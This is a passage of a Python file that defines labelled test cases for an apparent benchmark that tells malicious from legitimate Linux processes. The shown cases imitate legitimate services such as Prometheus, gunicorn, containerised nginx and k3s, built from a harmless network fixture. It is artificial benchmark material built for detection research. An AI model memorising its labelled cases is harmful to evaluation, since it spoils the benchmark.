"""The labelled cases of the detection benchmark (harness.py runs them).

Each case is what one server runs: programs at the paths, with the names, users, parents, cgroups
and environment they have in the wild, holding real connections. The program is always the flow
fixture (tests/fixture/flow_fixture.cpp) copied to that path, with its plan (`client ...`) read
from fd 3 so that its command line is the imitated program's own. Every copy gets a sha256 of its
own, as different programs do; several processes of one program share one copy.

Peers: 198.18.0.0/17 answers on every port the cases use; 198.18.128.0/17 never answers (scan
targets). A case's own address is 198.19.N.2; `inbound` connects from the peer to it.

Malware behaviours follow public reports (the source is in each case's title): XOR.DDoS, Mirai,
Gafgyt, Tsunami/Kaiten, Kinsing, TeamTNT, Outlaw, BPFDoor, Kaiji, Dofloo, Muhstik, 8220 Gang,
fileless memfd loaders, LD_PRELOAD rootkits, coin miners (xmrig).
"""
import hashlib
from dataclasses import dataclass, field

PATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"


def hexid(seed, n=64):
    return hashlib.sha256(seed.encode()).hexdigest()[:n]


def service_env(unit, **extra):
    """What systemd gives a service: no terminal, its own invocation id, the journal as stdout."""
    env = {"LANG": "C.UTF-8", "PATH": PATH, "INVOCATION_ID": hexid(unit, 32), "JOURNAL_STREAM": "8:41235"}
    env.update(extra)
    return env


def user_env(user, home, path=PATH, **extra):
    """An SSH login's environment."""
    env = {"HOME": home, "USER": user, "LOGNAME": user, "SHELL": "/bin/bash", "PATH": path,
           "LANG": "en_US.UTF-8", "TERM": "xterm-256color", "SSH_CONNECTION": "198.18.5.9 52114 198.19.0.2 22",
           "XDG_RUNTIME_DIR": f"/run/user/{1000 if user != 'root' else 0}"}
    env.update(extra)
    return env


def unit_file(name, exec_start, user=None):
    """Setup lines writing /etc/systemd/system/NAME.service (and enabling it)."""
    lines = ["[Unit]", f"Description={name}", "[Service]", f"ExecStart={exec_start}", "Restart=always"]
    if user:
        lines.append(f"User={user}")
    lines += ["[Install]", "WantedBy=multi-user.target"]
    text = "\\n".join(lines)
    return [f"printf '{text}\\n' >/etc/systemd/system/{name}.service",
            "mkdir -p /etc/systemd/system/multi-user.target.wants",
            f"ln -sf /etc/systemd/system/{name}.service /etc/systemd/system/multi-user.target.wants/"]


def rootfs(root, db=None, package="", files=()):
    """A container's root filesystem: the host's C libraries (as a Debian-based image has its own),
    and its own package database listing `files` as `package`'s (db: dpkg, apk or None)."""
    lines = [f"mkdir -p {root}/usr/lib/x86_64-linux-gnu {root}/lib {root}/lib64 {root}/etc {root}/tmp {root}/proc",
             f"mount --bind /usr/lib/x86_64-linux-gnu {root}/usr/lib/x86_64-linux-gnu",
             f"ln -s /usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2 {root}/lib64/ld-linux-x86-64.so.2",
             f"chmod 1777 {root}/tmp"]
    if db == "dpkg":
        lines += [f"mkdir -p {root}/var/lib/dpkg/info",
                  f"printf 'Package: {package}\\nStatus: install ok installed\\nVersion: 1.0\\n\\n' "
                  f">{root}/var/lib/dpkg/status",
                  f"printf '%s\\n' {' '.join(files)} >{root}/var/lib/dpkg/info/{package}.list",
                  f"printf 'PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\\nID=debian\\n' >{root}/etc/os-release"]
    elif db == "apk":
        entries = "".join(f"F:{f.rsplit('/', 1)[0].lstrip('/')}\\nR:{f.rsplit('/', 1)[1]}\\n" for f in files)
        lines += [f"mkdir -p {root}/lib/apk/db",
                  f"printf 'P:{package}\\nV:1.0-r0\\n{entries}\\n' >{root}/lib/apk/db/installed",
                  f"printf '3.19.0\\n' >{root}/etc/alpine-release",
                  f"printf 'ID=alpine\\n' >{root}/etc/os-release"]
    return lines


@dataclass
class Proc:
    exe: str          # the path it runs from (inside `container` when set)
    plan: str         # the fixture's command: "client [options]"
    argv: list = None  # its command line; [exe] when None
    uid: int = 0
    cgroup: str = ""  # under the case's cgroup namespace: "system.slice/NAME.service"
    env: dict = field(default_factory=dict)
    parent: str = "init"  # init (daemon, ppid 1), shell (a bash that waits), restart (a loop)
    container: str = ""   # a root filesystem (world path) it runs chrooted in, as in a container
    copy: bool = True     # False: exe is put there by the case's setup (a symlink, say)
    comm: str = ""        # a name it gives itself (prctl), as setproctitle, PM2 or malware do

    def __post_init__(self):
        if self.argv is None:
            self.argv = [self.exe]


@dataclass
class Case:
    id: str
    label: str  # legit or malware
    title: str
    procs: list
    setup: list = field(default_factory=list)  # shell lines run in the world before the copies
    after: list = field(default_factory=list)  # ... and after them
    inbound: list = field(default_factory=list)  # (port, connections) from the peer to the case
    watch: int = 0  # seconds of --watch (respawning cases)
    respawn_dirs: list = field(default_factory=list)  # where exited instances ran from
    quick: bool = False  # in the reduced set


def P(a, b=1):  # an answering peer address, 198.18.A.B
    return f"198.18.{a}.{b}"


def silent(a, b=1):  # a peer address that never answers, 198.18.(128+A).B
    return f"198.18.{128 + a}.{b}"


DEV = 1000  # a developer's account
HOME = "/home/dev"
DEV_ENV = user_env("dev", HOME)

LEGIT = [
    Case("node_exporter_consul", "legit",
         "node_exporter and consul in /usr/local/bin, two systemd services (the review's example)",
         [Proc("/usr/local/bin/node_exporter", "client --listen 0.0.0.0 9100",
               ["/usr/local/bin/node_exporter", "--web.listen-address=:9100"], uid=995,
               cgroup="system.slice/node_exporter.service", env=service_env("node_exporter")),
          Proc("/usr/local/bin/consul", f"client --tcp {P(0, 11)} 8301 1 --tcp {P(0, 12)} 8301 1 --tcp {P(0, 13)} 8301 1",
               ["/usr/local/bin/consul", "agent", "-config-dir=/etc/consul.d"], uid=994,
               cgroup="system.slice/consul.service", env=service_env("consul"))],
         setup=unit_file("node_exporter", "/usr/local/bin/node_exporter", "node_exporter") +
         unit_file("consul", "/usr/local/bin/consul agent -config-dir=/etc/consul.d", "consul"),
         inbound=[(9100, 3)], quick=True),
    Case("prometheus_scrape", "legit", "Prometheus from a tarball in /opt scraping 120 node exporters",
         [Proc("/opt/prometheus/prometheus", f"client --scan {P(1, 1)} 9100 120",
               ["/opt/prometheus/prometheus", "--config.file=/opt/prometheus/prometheus.yml"], uid=993,
               cgroup="system.slice/prometheus.service", env=service_env("prometheus"))],
         setup=unit_file("prometheus", "/opt/prometheus/prometheus --config.file=/opt/prometheus/prometheus.yml",
                         "prometheus"), quick=True),
    Case("blackbox_ssh_probe", "legit", "blackbox_exporter probing SSH banners of 80 hosts (port 22)",
         [Proc("/usr/local/bin/blackbox_exporter", f"client --scan {P(2, 1)} 22 80",
               ["/usr/local/bin/blackbox_exporter", "--config.file=/etc/blackbox.yml"], uid=992,
               cgroup="system.slice/blackbox_exporter.service", env=service_env("blackbox_exporter"))],
         setup=unit_file("blackbox_exporter", "/usr/local/bin/blackbox_exporter --config.file=/etc/blackbox.yml"), quick=True),
    Case("ansible_pyenv", "legit", "ansible-playbook on pyenv's Python, paramiko connections to 40 hosts",
         [Proc(f"{HOME}/.pyenv/versions/3.11.7/bin/python3.11", f"client --scan {P(2, 101)} 22 40",
               ["python3.11", f"{HOME}/.pyenv/versions/3.11.7/bin/ansible-playbook", "-i", "hosts", "site.yml"],
               uid=DEV, cgroup="user.slice/user-1000.slice/session-4.scope", parent="shell",
               env=user_env("dev", HOME, f"{HOME}/.pyenv/shims:{HOME}/.pyenv/bin:{PATH}",
                            PYENV_ROOT=f"{HOME}/.pyenv", PYENV_VERSION="3.11.7"))]),
    Case("pyenv_django", "legit", "Django dev server on pyenv's Python, with PostgreSQL and Redis",
         [Proc(f"{HOME}/.pyenv/versions/3.12.1/bin/python3.12",
               f"client --listen 0.0.0.0 8000 --tcp {P(0, 20)} 5432 5 --tcp {P(0, 21)} 6379 2",
               ["python", "manage.py", "runserver", "0.0.0.0:8000"], uid=DEV,
               cgroup="user.slice/user-1000.slice/session-4.scope", parent="shell",
               env=user_env("dev", HOME, f"{HOME}/.pyenv/shims:{PATH}", PYENV_ROOT=f"{HOME}/.pyenv",
                            VIRTUAL_ENV=f"{HOME}/shop/.venv"))],
         inbound=[(8000, 2)], quick=True),
    Case("gunicorn_setproctitle", "legit",
         "gunicorn master and workers (setproctitle renames them) on a pyenv virtualenv, a systemd service",
         [Proc("/srv/shop/.venv/bin/python3.11", "client --listen 0.0.0.0 8000",
               ["gunicorn: master [shop.wsgi:application]"], comm="gunicorn: maste", uid=990, cgroup="system.slice/shop.service",
               env=service_env("shop", VIRTUAL_ENV="/srv/shop/.venv")),
          Proc("/srv/shop/.venv/bin/python3.11", f"client --tcp {P(0, 20)} 5432 2",
               ["gunicorn: worker [shop.wsgi:application]"], comm="gunicorn: worke", uid=990, cgroup="system.slice/shop.service",
               env=service_env("shop", VIRTUAL_ENV="/srv/shop/.venv")),
          Proc("/srv/shop/.venv/bin/python3.11", f"client --tcp {P(0, 20)} 5432 2",
               ["gunicorn: worker [shop.wsgi:application]"], comm="gunicorn: worke", uid=990, cgroup="system.slice/shop.service",
               env=service_env("shop", VIRTUAL_ENV="/srv/shop/.venv"))],
         setup=unit_file("shop", "/srv/shop/.venv/bin/gunicorn shop.wsgi:application", "shop"),
         inbound=[(8000, 3)], quick=True),
    Case("nvm_node", "legit", "Node.js from nvm serving an API, calling HTTPS services",
         [Proc(f"{HOME}/.nvm/versions/node/v20.11.1/bin/node",
               f"client --listen 0.0.0.0 3000 --tcp {P(0, 30)} 443 4",
               ["node", "server.js"], uid=DEV, cgroup="user.slice/user-1000.slice/session-4.scope", parent="shell",
               env=user_env("dev", HOME, f"{HOME}/.nvm/versions/node/v20.11.1/bin:{PATH}", NVM_DIR=f"{HOME}/.nvm"))],
         inbound=[(3000, 2)], quick=True),
    Case("pm2_god", "legit", "PM2's God daemon (it retitles itself) and its app, on nvm's Node, a systemd unit",
         [Proc("/home/deploy/.nvm/versions/node/v18.19.0/bin/node", "client",
               ["PM2 v5.3.1: God Daemon (/home/deploy/.pm2)"], comm="PM2 v5.3.1: God", uid=1001, cgroup="system.slice/pm2-deploy.service",
               env=service_env("pm2-deploy", HOME="/home/deploy", PM2_HOME="/home/deploy/.pm2")),
          Proc("/home/deploy/.nvm/versions/node/v18.19.0/bin/node",
               f"client --listen 0.0.0.0 3001 --tcp {P(0, 31)} 443 3 --tcp {P(0, 20)} 5432 2",
               ["node /home/deploy/api/index.js"], uid=1001, cgroup="system.slice/pm2-deploy.service",
               env=service_env("pm2-deploy", HOME="/home/deploy", PM2_HOME="/home/deploy/.pm2"))],
         setup=unit_file("pm2-deploy", "/home/deploy/.nvm/versions/node/v18.19.0/lib/node_modules/pm2/bin/pm2 "
                         "resurrect", "deploy"), inbound=[(3001, 2)]),
    Case("cargo_install", "legit", "a tool from cargo install (~/.cargo/bin) serving files",
         [Proc(f"{HOME}/.cargo/bin/miniserve", "client --listen 0.0.0.0 8080",
               ["miniserve", "--port", "8080", "public/"], uid=DEV,
               cgroup="user.slice/user-1000.slice/session-4.scope", parent="shell",
               env=user_env("dev", HOME, f"{HOME}/.cargo/bin:{PATH}"))], inbound=[(8080, 2)]),
    Case("rust_dev", "legit", "rust-analyzer from rustup and a cargo run build in target/debug",
         [Proc(f"{HOME}/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/rust-analyzer", "client",
               ["rust-analyzer"], uid=DEV, cgroup="user.slice/user-1000.slice/session-4.scope", parent="shell",
               env=user_env("dev", HOME, f"{HOME}/.cargo/bin:{PATH}", RUSTUP_HOME=f"{HOME}/.rustup")),
          Proc(f"{HOME}/src/orders/target/debug/orders-api", f"client --listen 0.0.0.0 8081 --tcp {P(0, 40)} 5432 3",
               ["target/debug/orders-api"], uid=DEV, cgroup="user.slice/user-1000.slice/session-4.scope",
               parent="shell", env=user_env("dev", HOME, f"{HOME}/.cargo/bin:{PATH}"))]),
    Case("go_run", "legit", "`go run .`: the go tool from /usr/local/go and its build under /tmp/go-build*",
         [Proc("/usr/local/go/bin/go", "client", ["go", "run", "."], uid=DEV,
               cgroup="user.slice/user-1000.slice/session-4.scope", parent="shell",
               env=user_env("dev", HOME, f"/usr/local/go/bin:{HOME}/go/bin:{PATH}", GOPATH=f"{HOME}/go")),
          Proc("/tmp/go-build2947311823/b001/exe/main", f"client --listen 0.0.0.0 8082 --tcp {P(0, 50)} 443 3",
               ["/tmp/go-build2947311823/b001/exe/main"], uid=DEV,
               cgroup="user.slice/user-1000.slice/session-4.scope", parent="shell",
               env=user_env("dev", HOME, f"/usr/local/go/bin:{HOME}/go/bin:{PATH}", GOPATH=f"{HOME}/go"))],
         quick=True),
    Case("gopls_tools", "legit", "Go tools from go install (~/go/bin): gopls and air",
         [Proc(f"{HOME}/go/bin/gopls", "client", ["gopls", "-mode=stdio"], uid=DEV,
               cgroup="user.slice/user-1000.slice/session-4.scope", parent="shell", env=DEV_ENV),
          Proc(f"{HOME}/go/bin/air", f"client --tcp {P(0, 51)} 443 1", ["air", "-c", ".air.toml"], uid=DEV,
               cgroup="user.slice/user-1000.slice/session-4.scope", parent="shell", env=DEV_ENV)]),
    Case("gitea", "legit", "Gitea from its release binary in /usr/local/bin, User=git, with PostgreSQL",
         [Proc("/usr/local/bin/gitea", f"client --listen 0.0.0.0 3000 --tcp {P(0, 20)} 5432 4",
               ["/usr/local/bin/gitea", "web", "--config", "/etc/gitea/app.ini"], uid=997,
               cgroup="system.slice/gitea.service", env=service_env("gitea", USER="git", HOME="/home/git",
                                                                    GITEA_WORK_DIR="/var/lib/gitea"))],
         setup=unit_file("gitea", "/usr/local/bin/gitea web --config /etc/gitea/app.ini", "git"),
         inbound=[(3000, 4)]),
    Case("appimage", "legit", "an AppImage: the runtime in ~/Applications and the app under /tmp/.mount_*",
         [Proc(f"{HOME}/Applications/Obsidian-1.5.3.AppImage", "client", [f"{HOME}/Applications/Obsidian-1.5.3.AppImage"],
               uid=DEV, cgroup="user.slice/user-1000.slice/session-4.scope", parent="shell", env=DEV_ENV),
          Proc("/tmp/.mount_ObsidiXk2Fp9/obsidian", f"client --tcp {P(0, 60)} 443 3",
               ["/tmp/.mount_ObsidiXk2Fp9/obsidian"], uid=DEV, cgroup="user.slice/user-1000.slice/session-4.scope",
               parent="shell", env=dict(DEV_ENV, APPIMAGE=f"{HOME}/Applications/Obsidian-1.5.3.AppImage",
                                        APPDIR="/tmp/.mount_ObsidiXk2Fp9"))], quick=True),
    Case("vscode_server", "legit", "the VS Code server in ~/.vscode-server: server, extension host, Pylance",
         [Proc(f"{HOME}/.vscode-server/bin/8b3775030ed1a69b13e4f4c628c612102e30a681/node", "client --listen 0.0.0.0 38271",
               ["sh", f"{HOME}/.vscode-server/bin/8b3775030ed1a69b13e4f4c628c612102e30a681/out/server-main.js",
                "--start-server", "--host=127.0.0.1"], uid=DEV, cgroup="user.slice/user-1000.slice/session-5.scope",
               env=DEV_ENV, parent="shell"),
          Proc(f"{HOME}/.vscode-server/bin/8b3775030ed1a69b13e4f4c628c612102e30a681/node", f"client --tcp {P(0, 61)} 443 2",
               [f"{HOME}/.vscode-server/bin/8b3775030ed1a69b13e4f4c628c612102e30a681/node", "--dns-result-order=ipv4first",
                f"{HOME}/.vscode-server/bin/8b3775030ed1a69b13e4f4c628c612102e30a681/out/bootstrap-fork",
                "--type=extensionHost"], uid=DEV, cgroup="user.slice/user-1000.slice/session-5.scope", env=DEV_ENV,
               parent="shell"),
          Proc(f"{HOME}/.vscode-server/bin/8b3775030ed1a69b13e4f4c628c612102e30a681/node", "client",
               [f"{HOME}/.vscode-server/bin/8b3775030ed1a69b13e4f4c628c612102e30a681/node",
                f"{HOME}/.vscode-server/extensions/ms-python.vscode-pylance-2024.1.1/dist/server.bundle.js",
                "--cancellationReceive=file:3f1c"], uid=DEV, cgroup="user.slice/user-1000.slice/session-5.scope",
               env=DEV_ENV, parent="shell")], inbound=[(38271, 1)], quick=True),
    Case("jetbrains_gateway", "legit", "JetBrains Gateway's remote IDE backend (its own JBR java in ~/.cache)",
         [Proc(f"{HOME}/.cache/JetBrains/RemoteDev/dist/3f0d5e1c4b_ideaIU-2023.3.2/jbr/bin/java",
               f"client --listen 0.0.0.0 5990 --tcp {P(0, 62)} 443 2",
               ["java", "-classpath", f"{HOME}/.cache/JetBrains/RemoteDev/dist/3f0d5e1c4b_ideaIU-2023.3.2/lib/app.jar",
                "com.intellij.idea.Main", "cwmHostNoLobby"], uid=DEV,
               cgroup="user.slice/user-1000.slice/session-5.scope", env=DEV_ENV, parent="shell")],
         inbound=[(5990, 1)]),
    Case("sdkman_spring", "legit", "a Spring Boot jar on SDKMAN's Java, with PostgreSQL",
         [Proc(f"{HOME}/.sdkman/candidates/java/17.0.9-tem/bin/java",
               f"client --listen 0.0.0.0 8083 --tcp {P(0, 20)} 5432 10",
               ["java", "-jar", "build/libs/orders-0.0.1-SNAPSHOT.jar"], uid=DEV,
               cgroup="user.slice/user-1000.slice/session-4.scope", parent="shell",
               env=user_env("dev", HOME, f"{HOME}/.sdkman/candidates/java/current/bin:{PATH}",
                            JAVA_HOME=f"{HOME}/.sdkman/candidates/java/current", SDKMAN_DIR=f"{HOME}/.sdkman"))],
         inbound=[(8083, 5)]),
    Case("tomcat_opt_jdk", "legit", "Tomcat on a JDK unpacked in /opt, a systemd service",
         [Proc("/opt/jdk-17.0.9/bin/java", f"client --listen 0.0.0.0 8084 --tcp {P(0, 20)} 5432 4",
               ["/opt/jdk-17.0.9/bin/java", "-Dcatalina.base=/opt/tomcat", "org.apache.catalina.startup.Bootstrap",
                "start"], uid=991, cgroup="system.slice/tomcat.service",
               env=service_env("tomcat", JAVA_HOME="/opt/jdk-17.0.9", CATALINA_HOME="/opt/tomcat"))],
         setup=unit_file("tomcat", "/opt/tomcat/bin/catalina.sh run", "tomcat"), inbound=[(8084, 6)], quick=True),
    Case("elasticsearch_tarball", "legit", "Elasticsearch from its tarball (bundled JDK), talking to 3 nodes",
         [Proc("/opt/elasticsearch-8.11.3/jdk/bin/java",
               f"client --listen 0.0.0.0 9200 --tcp {P(0, 70)} 9300 2 --tcp {P(0, 71)} 9300 2 --tcp {P(0, 72)} 9300 2",
               ["/opt/elasticsearch-8.11.3/jdk/bin/java", "-Xms4g", "-Xmx4g",
                "org.elasticsearch.bootstrap.Elasticsearch"], uid=989, cgroup="system.slice/elasticsearch.service",
               env=service_env("elasticsearch", ES_HOME="/opt/elasticsearch-8.11.3"))],
         setup=unit_file("elasticsearch", "/opt/elasticsearch-8.11.3/bin/elasticsearch", "elasticsearch"),
         inbound=[(9200, 3)]),
    Case("minio", "legit", "MinIO from its release binary, a systemd service with many clients",
         [Proc("/usr/local/bin/minio", "client --listen 0.0.0.0 9000",
               ["/usr/local/bin/minio", "server", "/srv/minio", "--console-address", ":9001"], uid=988,
               cgroup="system.slice/minio.service", env=service_env("minio", MINIO_VOLUMES="/srv/minio"))],
         setup=unit_file("minio", "/usr/local/bin/minio server /srv/minio", "minio-user"), inbound=[(9000, 20)]),
    Case("snap_lxd", "legit", "LXD from a snap (/snap/lxd/REV), its snap.lxd.daemon.service",
         [Proc("/snap/lxd/27037/bin/lxd", f"client --tcp {P(0, 80)} 443 2",
               ["lxd", "--logfile", "/var/snap/lxd/common/lxd/logs/lxd.log", "--group", "lxd"],
               cgroup="system.slice/snap.lxd.daemon.service", env=service_env("snap.lxd.daemon", SNAP="/snap/lxd/27037",
                                                                              SNAP_NAME="lxd"))],
         setup=["ln -s 27037 /snap/lxd/current 2>/dev/null || true"]),
    Case("snap_user_app", "legit", "a user running Node from a snap (/snap/node/REV/bin/node)",
         [Proc("/snap/node/8153/bin/node", f"client --listen 0.0.0.0 3002 --tcp {P(0, 81)} 443 2",
               ["node", "app.js"], uid=DEV,
               cgroup="user.slice/user-1000.slice/session-4.scope/snap.node.node-6d1c0f5e.scope", parent="shell",
               env=dict(DEV_ENV, SNAP="/snap/node/8153", SNAP_NAME="node"))]),
    Case("flatpak_firefox", "legit", "Firefox from Flatpak (its own sandbox root, /app/lib/firefox)",
         [Proc("/app/lib/firefox/firefox", f"client --tcp {P(0, 90)} 443 6", ["/app/lib/firefox/firefox"], uid=DEV,
               cgroup="user.slice/user-1000.slice/user@1000.service/app.slice/app-flatpak-org.mozilla.firefox-4242.scope",
               env=dict(DEV_ENV, FLATPAK_ID="org.mozilla.firefox"),
               container=f"{HOME}/.local/share/flatpak/app/org.mozilla.firefox/x86_64/stable/{hexid('ff', 12)}/files")],
         setup=rootfs(f"{HOME}/.local/share/flatpak/app/org.mozilla.firefox/x86_64/stable/{hexid('ff', 12)}/files")),
    Case("docker_nginx", "legit", "nginx in a Debian-based container (its own dpkg database owns /usr/sbin/nginx)",
         [Proc("/usr/sbin/nginx", "client --listen 0.0.0.0 80", ["nginx: master process nginx -g daemon off;"],
               cgroup=f"system.slice/docker-{hexid('nginx')}.scope",
               env={"PATH": PATH, "HOSTNAME": hexid("nginx", 12), "NGINX_VERSION": "1.25.3"},
               container=f"/var/lib/docker/overlay2/{hexid('nginx-layer')}/merged")],
         setup=rootfs(f"/var/lib/docker/overlay2/{hexid('nginx-layer')}/merged", "dpkg", "nginx", ["/usr/sbin/nginx"]),
         inbound=[(80, 5)], quick=True),
    Case("docker_redis", "legit", "the official redis image: /usr/local/bin/redis-server, built, in no package",
         [Proc("/usr/local/bin/redis-server", "client --listen 0.0.0.0 6379", ["redis-server *:6379"], uid=999,
               cgroup=f"system.slice/docker-{hexid('redis')}.scope",
               env={"PATH": PATH, "HOSTNAME": hexid("redis", 12), "REDIS_VERSION": "7.2.4"},
               container=f"/var/lib/docker/overlay2/{hexid('redis-layer')}/merged")],
         setup=rootfs(f"/var/lib/docker/overlay2/{hexid('redis-layer')}/merged", "dpkg", "libc6",
                      ["/usr/lib/x86_64-linux-gnu/libc.so.6"]), inbound=[(6379, 3)]),
    Case("alpine_nginx", "legit", "nginx:alpine (apk's database owns /usr/sbin/nginx)",
         [Proc("/usr/sbin/nginx", "client --listen 0.0.0.0 8085", ["nginx: master process nginx -g daemon off;"],
               cgroup=f"system.slice/docker-{hexid('alpine')}.scope",
               env={"PATH": PATH, "HOSTNAME": hexid("alpine", 12), "NGINX_VERSION": "1.25.3"},
               container=f"/var/lib/docker/overlay2/{hexid('alpine-layer')}/merged")],
         setup=rootfs(f"/var/lib/docker/overlay2/{hexid('alpine-layer')}/merged", "apk", "nginx", ["/usr/sbin/nginx"]),
         inbound=[(8085, 3)]),
    Case("k8s_distroless", "legit", "a Kubernetes pod: a static Go server in a distroless image (no package db)",
         [Proc("/app/server", f"client --listen 0.0.0.0 8086 --tcp {P(0, 100)} 443 3", ["/app/server"], uid=65532,
               cgroup=f"kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod{hexid('pod', 8)}.slice/"
                      f"cri-containerd-{hexid('distroless')}.scope",
               env={"PATH": PATH, "HOSTNAME": "orders-7d9f8b6c5-x2k4q", "KUBERNETES_SERVICE_HOST": "10.96.0.1"},
               container=f"/run/containerd/io.containerd.runtime.v2.task/k8s.io/{hexid('distroless')}/rootfs")],
         setup=rootfs(f"/run/containerd/io.containerd.runtime.v2.task/k8s.io/{hexid('distroless')}/rootfs"),
         inbound=[(8086, 2)]),
    Case("podman_rootless_python", "legit", "rootless podman: python:3.11-slim's /usr/local/bin/python3.11",
         [Proc("/usr/local/bin/python3.11", f"client --tcp {P(0, 101)} 5432 3",
               ["python3", "worker.py"], uid=DEV,
               cgroup=f"user.slice/user-1000.slice/user@1000.service/user.slice/libpod-{hexid('podman')}.scope",
               env={"PATH": PATH, "HOSTNAME": hexid("podman", 12), "PYTHON_VERSION": "3.11.7"},
               container=f"{HOME}/.local/share/containers/storage/overlay/{hexid('podman-layer')}/merged")],
         setup=rootfs(f"{HOME}/.local/share/containers/storage/overlay/{hexid('podman-layer')}/merged", "dpkg",
                      "libc6", ["/usr/lib/x86_64-linux-gnu/libc.so.6"])),
    Case("k3s_multicall", "legit",
         "k3s: one multi-call binary running as k3s-server, containerd and containerd-shim",
         [Proc("/usr/local/bin/k3s", f"client --listen 0.0.0.0 6443 --tcp {P(0, 110)} 443 2",
               ["/usr/local/bin/k3s", "server"], comm="k3s-server", cgroup="system.slice/k3s.service", env=service_env("k3s")),
          Proc(f"/var/lib/rancher/k3s/data/{hexid('k3s', 16)}/bin/containerd", "client",
               ["containerd", "-c", "/var/lib/rancher/k3s/agent/etc/containerd/config.toml"], copy=False,
               cgroup="system.slice/k3s.service", env=service_env("k3s")),
          Proc(f"/var/lib/rancher/k3s/data/{hexid('k3s', 16)}/bin/containerd-shim-runc-v2", "client",
               ["/var/lib/rancher/k3s/data/current/bin/containerd-shim-runc-v2", "-namespace", "k8s.io", "-id",
                hexid("pod1"), "-address", "/run/k3s/containerd/containerd.sock"], copy=False,
               cgroup="system.slice/k3s.service", env=service_env("k3s"))],
         setup=unit_file("k3s", "/usr/local/bin/k3s server"),
         after=[f"d=/var/lib/rancher/k3s/data/{hexid('k3s', 16)}/bin && mkdir -p $d && "
                f"cp $fx $d/k3s && printf k3s-data >>$d/k3s && chmod 755 $d/k3s && "
                f"ln -s k3s $d/containerd && ln -s k3s $d/containerd-shim-runc-v2"],
         inbound=[(6443, 2)], quick=True),
    Case("crashloop_service", "legit",
         "a self-installed service in /usr/local/bin that crashes and systemd restarts it (same name)",
         [Proc("/usr/local/bin/orders-worker", f"client --lifetime 2 --tcp {P(0, 20)} 5432 1",
               ["/usr/local/bin/orders-worker", "--queue", "orders"], uid=987, parent="restart",
               cgroup="system.slice/orders-worker.service", env=service_env("orders-worker"))],
         setup=unit_file("orders-worker", "/usr/local/bin/orders-worker --queue orders", "orders"), watch=6,
         respawn_dirs=["/usr/local/bin"]),
    Case("tailscale_static", "legit", "tailscaled from the static tarball in /usr/local/bin (UDP to peers)",
         [Proc("/usr/local/bin/tailscaled",
               f"client --tcp {P(0, 120)} 443 1 " + " ".join(f"--udp {P(0, 121 + k)} 123 1" for k in range(6)),
               ["/usr/local/bin/tailscaled", "--state=/var/lib/tailscale/tailscaled.state", "--port=41641"],
               cgroup="system.slice/tailscaled.service", env=service_env("tailscaled"))],
         setup=unit_file("tailscaled", "/usr/local/bin/tailscaled --state=/var/lib/tailscale/tailscaled.state")),
    Case("syncthing_user", "legit", "Syncthing in ~/.local/bin as a systemd user service, 12 peers",
         [Proc(f"{HOME}/.local/bin/syncthing", " ".join(["client --listen 0.0.0.0 8384"] +
                                                         [f"--tcp {P(3, 100 + k)} 443 1" for k in range(12)]),
               [f"{HOME}/.local/bin/syncthing", "serve", "--no-browser", "--no-restart"], uid=DEV,
               cgroup="user.slice/user-1000.slice/user@1000.service/app.slice/syncthing.service",
               env={"HOME": HOME, "USER": "dev", "PATH": PATH, "LANG": "en_US.UTF-8",
                    "XDG_RUNTIME_DIR": "/run/user/1000", "INVOCATION_ID": hexid("syncthing", 32)})]),
    Case("conda_jupyter", "legit", "JupyterLab on Miniconda's Python in ~/miniconda3",
         [Proc(f"{HOME}/miniconda3/bin/python3.11", f"client --listen 0.0.0.0 8888 --tcp {P(0, 130)} 443 2",
               [f"{HOME}/miniconda3/bin/python", f"{HOME}/miniconda3/bin/jupyter-lab", "--no-browser"], uid=DEV,
               cgroup="user.slice/user-1000.slice/session-4.scope", parent="shell",
               env=user_env("dev", HOME, f"{HOME}/miniconda3/bin:{PATH}", CONDA_PREFIX=f"{HOME}/miniconda3",
                            CONDA_DEFAULT_ENV="base"))], inbound=[(8888, 2)]),
    Case("deno_bun", "legit", "Deno and Bun from their installers (~/.deno/bin, ~/.bun/bin)",
         [Proc(f"{HOME}/.deno/bin/deno", f"client --listen 0.0.0.0 8001 --tcp {P(0, 131)} 443 2",
               ["deno", "run", "--allow-net", "server.ts"], uid=DEV,
               cgroup="user.slice/user-1000.slice/session-4.scope", parent="shell",
               env=user_env("dev", HOME, f"{HOME}/.deno/bin:{HOME}/.bun/bin:{PATH}")),
          Proc(f"{HOME}/.bun/bin/bun", "client --listen 0.0.0.0 3003", ["bun", "run", "index.ts"], uid=DEV,
               cgroup="user.slice/user-1000.slice/session-4.scope", parent="shell",
               env=user_env("dev", HOME, f"{HOME}/.deno/bin:{HOME}/.bun/bin:{PATH}"))]),
    Case("ollama_runner", "legit",
         "Ollama: the server in /usr/local/bin and the runner it unpacks under /tmp/ollamaNNN/runners",
         [Proc("/usr/local/bin/ollama", f"client --listen 0.0.0.0 11434 --tcp {P(0, 140)} 443 2",
               ["/usr/local/bin/ollama", "serve"], uid=986, cgroup="system.slice/ollama.service",
               env=service_env("ollama", HOME="/usr/share/ollama", OLLAMA_HOST="0.0.0.0")),
          Proc("/tmp/ollama2718281828/runners/cpu_avx2/ollama_llama_server", "client --listen 0.0.0.0 39127",
               ["/tmp/ollama2718281828/runners/cpu_avx2/ollama_llama_server", "--model",
                "/usr/share/ollama/.ollama/models/blobs/sha256-" + hexid("model"), "--port", "39127"], uid=986,
               cgroup="system.slice/ollama.service", env=service_env("ollama", HOME="/usr/share/ollama"))],
         setup=unit_file("ollama", "/usr/local/bin/ollama serve", "ollama"), inbound=[(11434, 2)], quick=True),
    Case("puppeteer_chrome", "legit", "headless Chrome downloaded by Puppeteer into ~/.cache/puppeteer",
         [Proc(f"{HOME}/.cache/puppeteer/chrome/linux-121.0.6167.85/chrome-linux64/chrome",
               f"client --tcp {P(0, 150)} 443 8",
               [f"{HOME}/.cache/puppeteer/chrome/linux-121.0.6167.85/chrome-linux64/chrome", "--headless=new",
                "--remote-debugging-port=0"], uid=DEV, cgroup="user.slice/user-1000.slice/session-4.scope",
               parent="shell", env=DEV_ENV),
          Proc(f"{HOME}/.cache/puppeteer/chrome/linux-121.0.6167.85/chrome-linux64/chrome_crashpad_handler", "client",
               ["chrome_crashpad_handler", "--monitor-self", "--database=/tmp/.org.chromium.Chromium.xF3kQp"],
               uid=DEV, cgroup="user.slice/user-1000.slice/session-4.scope", parent="shell", env=DEV_ENV)]),
